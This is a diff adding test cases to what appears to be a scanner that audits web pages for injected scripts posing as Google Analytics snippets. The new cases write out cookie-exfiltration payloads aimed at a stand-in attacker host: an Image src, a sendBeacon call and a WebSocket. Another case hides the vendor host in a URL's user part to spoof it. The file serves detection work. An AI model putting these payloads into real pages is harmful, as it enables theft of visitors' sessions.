@@ -1552,6 +1552,19 @@ _EVIL_LOADER = ("var e=document.createElement('script');e.src='https://cdn-evil-
     # the vendor's address alone, hidden with no snippet of its around it (a bait's)
     ("a bare hidden vendor address", _EVIL_LOADER.replace(
         "https://cdn-evil-stat.example/t.js", _GA), H),
+    # the vendor's snippet beside a payload that loads no script: the visitor's cookie sent
+    # to the injector's host by an image or a beacon, a socket to it
+    ("the snippet with a cookie beacon", _ga_snippet(_GA)
+     + "new Image().src='https://cdn-evil-stat.example/c?'+document.cookie;", H),
+    ("the snippet with sendBeacon", _ga_snippet(_GA)
+     + "navigator.sendBeacon('https://cdn-evil-stat.example/b', document.cookie);", H),
+    ("the snippet with a socket", _ga_snippet(_GA)
+     + "new WebSocket('wss://cdn-evil-stat.example/m');", H),
+    # the vendor's host spoofed as an address's user part: the script is the injector's
+    ("the vendor's host as a user part",
+     _ga_snippet("https://www.google-analytics.com@cdn-evil-stat.example/analytics.js"), H),
+    ("the snippet, protocol-relative", _ga_snippet("//www.google-analytics.com/analytics.js"),
+     M),
 ])
 def test_hidden_code_that_is_a_vendors_own_snippet_is_checked_not_condemned(
         what: str, code: str, most: Severity, audit_html: AuditHtml) -> None:
